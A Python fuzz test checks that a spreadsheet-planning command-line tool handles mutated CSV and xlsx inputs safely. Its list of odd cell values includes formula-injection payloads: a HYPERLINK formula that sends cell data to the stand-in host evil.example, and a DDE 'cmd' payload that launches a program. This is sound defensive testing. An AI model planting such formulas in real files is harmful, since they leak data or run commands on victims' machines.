"""Fuzz the input layer (issue 11): whatever a careless or malicious file holds, reeplan exits 0, 2 or 3,
prints no traceback, leaves the input byte for byte as it was, and writes no file unless it succeeded
(`validate --report` writes its report for an invalid input too: that is its purpose).

Valid inputs (a CSV folder and the same tables as .xlsx) are mutated — a cell replaced by odd text,
a number, NaN, a huge number or formula-looking text; bytes flipped, inserted or cut; a header
duplicated; a sheet or file renamed — and run through the command line in this process. The example
count is bounded and derandomised for CI; set REEPLAN_FUZZ_EXAMPLES to search longer.
"""
import csv
import io
import math
import os
import tempfile
import zipfile
from pathlib import Path

import openpyxl
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from tests.conftest import write_input
from tests.test_hostile_inputs import digest, run_cli, xlsx_of
from tests.test_validation import VALID

SHEETS = dict(VALID,
              Sectors=[dict(r, description=f"{r['sector']} makers") for r in VALID["Sectors"]],
              Demand=[dict(r, notes="2026: assumption") for r in VALID["Demand"]],
              Stockpiles=[{"stockpile": "NDS", "material": "Dy oxide", "initial_t": 5, "max_release_t": 2,
                           "reserved_for": "defense"}],
              Scenarios=[{"scenario": "denial", "probability": 0.5}, {"scenario": "truce", "probability": ""}],
              Overrides=[{"scenario": "denial", "sheet": "Licences", "column": "approval_rate", "operation": "set",
                          "value": 0}])
EXAMPLES = int(os.environ.get("REEPLAN_FUZZ_EXAMPLES", "100"))


def _base_inputs() -> tuple[dict[str, bytes], bytes]:
    with tempfile.TemporaryDirectory() as tmp:
        folder = write_input(Path(tmp) / "plan", SHEETS)
        files = {p.name: p.read_bytes() for p in sorted(folder.iterdir())}
        workbook = xlsx_of(SHEETS, Path(tmp) / "plan.xlsx").read_bytes()
    return files, workbook


BASE_CSV, BASE_XLSX = _base_inputs()

ODD_TEXT = ["", " ", "nan", "NaN", "inf", "-inf", "Infinity", "1e20", "-1e13", "1e308", "1e400", "1" * 400,
            "1e-320", "-0", "0x10", "1_000", "1,000", "#N/A", "#REF!", "TRUE", "no", "*", ";", "a;b;",
            "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1-1",
            '"', 'a"b', '"quoted', "a,b", "a\nb", "a\r\nb", "\x01", "\ufeff", "é", "中国", "Dy OXIDE ", "2026",
            "China", "defense", "EV"]
NUMBERS = [math.nan, math.inf, -math.inf, 1e20, -1e20, 1e12, 1e13, 5e-324, -1.0, 0.0, 10 ** 30, True, None]

texts = st.one_of(st.sampled_from(ODD_TEXT), st.text(max_size=12))
index = st.integers(min_value=0, max_value=10 ** 6)


@st.composite
def csv_mutation(draw):
    kind = draw(st.sampled_from(["cell", "cell", "cell", "flip", "insert", "truncate", "header", "rename",
                                 "twin", "drop", "none"]))
    return kind, draw(index), draw(index), draw(index), draw(texts), draw(st.binary(min_size=1, max_size=8))


@st.composite
def xlsx_mutation(draw):
    kind = draw(st.sampled_from(["cell", "cell", "cell", "number", "number", "header", "rename", "twin",
                                 "member", "flip", "truncate", "none"]))
    return kind, draw(index), draw(index), draw(index), draw(texts), draw(st.sampled_from(NUMBERS))


def mutate_csv(files: dict[str, bytes], mutation) -> dict[str, bytes]:
    kind, a, b, c, text, junk = mutation
    files = dict(files)
    name = sorted(files)[a % len(files)]
    data = files[name]
    if not data and kind in ("flip", "truncate"):
        return files
    if kind == "cell":  # through a CSV writer: the file stays well-formed CSV
        rows = list(csv.reader(io.StringIO(data.decode("utf-8", "surrogateescape"), newline=""))) or [[]]
        row = rows[b % len(rows)]
        row[c % len(row) if row else 0:] = [text] + row[c % len(row) + 1:] if row else [text]
        out = io.StringIO(newline="")
        csv.writer(out).writerows(rows)
        files[name] = out.getvalue().encode("utf-8", "surrogateescape")
    elif kind == "flip":
        files[name] = data[:b % len(data)] + bytes([data[b % len(data)] ^ (1 + c % 255)]) + data[b % len(data) + 1:]
    elif kind == "insert":
        files[name] = data[:b % (len(data) + 1)] + junk + data[b % (len(data) + 1):]
    elif kind == "truncate":
        files[name] = data[:b % len(data)]
    elif kind == "header":  # the first column's header once more at the end of the header line
        first, _, rest = data.partition(b"\n")
        files[name] = first.rstrip(b"\r") + b"," + first.split(b",")[0] + b"\n" + rest
    elif kind == "rename":
        files[name.lower() if b % 2 else name.upper().replace(".CSV", ".csv")] = files.pop(name)
    elif kind == "twin":  # another file read as the same sheet
        files[f" {name[:-4].lower()} .csv"] = data
    elif kind == "drop":
        del files[name]
    return files


def mutate_xlsx(data: bytes, mutation) -> bytes:
    kind, a, b, c, text, number = mutation
    if kind == "none":
        return data
    if kind in ("flip", "truncate"):
        at = b % len(data)
        return data[:at] + bytes([data[at] ^ (1 + c % 255)]) + data[at + 1:] if kind == "flip" else data[:at]
    if kind == "member":  # damage the XML inside an intact zip
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            parts = {n: z.read(n) for n in z.namelist()}
        name = sorted(parts)[a % len(parts)]
        xml = parts[name]
        parts[name] = xml[:b % len(xml)] + text.encode("utf-8") + xml[b % len(xml) + c % 3:]
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            for n, part in parts.items():
                z.writestr(n, part)
        return out.getvalue()
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb.worksheets[a % len(wb.worksheets)]
    if kind in ("cell", "number"):
        cell = ws.cell(row=1 + b % (ws.max_row + 1), column=1 + c % (ws.max_column + 1))
        cell.value = ILLEGAL_CHARACTERS_RE.sub("", text) if kind == "cell" else number
    elif kind == "header":
        ws.cell(row=1, column=ws.max_column + 1, value=str(ws.cell(row=1, column=1).value).upper())
    elif kind == "rename":
        ws.title = f"{ws.title.lower()} " if b % 2 else ws.title.upper()
    elif kind == "twin":
        wb.copy_worksheet(ws).title = f" {ws.title.lower()}"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


COMMANDS = [["solve"], ["validate"], ["validate", "--report"]]


def check_run(tmp: Path, inp: Path, command: list[str]):
    before = digest(inp)
    out = tmp / "out"
    args = [command[0], inp] + (["--report", out / "report.xlsx"] if "--report" in command else [])
    if command[0] == "solve":
        args += ["-o", out / "result.xlsx", "--json", out / "result.json"]
    done = run_cli(*args)  # raises on any exception other than SystemExit
    event(f"{command[0]} exit {done.exit_code}")
    assert done.exit_code in (0, 2, 3), done.output
    assert "Traceback" not in done.output
    assert digest(inp) == before  # the input, byte for byte
    written = {p.name for p in out.iterdir()} if out.exists() else set()
    if command == ["solve"]:
        assert written == ({"result.xlsx", "result.json"} if done.exit_code == 0 else set()), done.output
    elif "--report" in command:
        assert written <= {"report.xlsx"} and (done.exit_code in (0, 2) or not written), done.output
        assert done.exit_code == 2 or written == {"report.xlsx"}, done.output
    else:
        assert written == set()
    leftovers = {p.name for p in inp.parent.iterdir()} - {inp.name, "out"}
    assert not leftovers  # no temporary file beside the input or the outputs


FUZZ = settings(max_examples=EXAMPLES, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@FUZZ
@given(st.lists(csv_mutation(), min_size=1, max_size=3), st.sampled_from(COMMANDS))
def test_fuzzed_csv_folders(mutations, command):
    files = BASE_CSV
    for mutation in mutations:
        files = mutate_csv(files, mutation) if files else files
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "plan"
        folder.mkdir()
        for name, data in files.items():
            (folder / name).write_bytes(data)
        check_run(Path(tmp), folder, command)


@FUZZ
@given(st.lists(xlsx_mutation(), min_size=1, max_size=2), st.sampled_from(COMMANDS))
def test_fuzzed_workbooks(mutations, command):
    data = BASE_XLSX
    for mutation in mutations:
        try:
            data = mutate_xlsx(data, mutation)
        except Exception:  # noqa: BLE001 - openpyxl cannot open what an earlier mutation broke: keep those bytes
            break
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "plan.xlsx"
        path.write_bytes(data)
        check_run(Path(tmp), path, command)
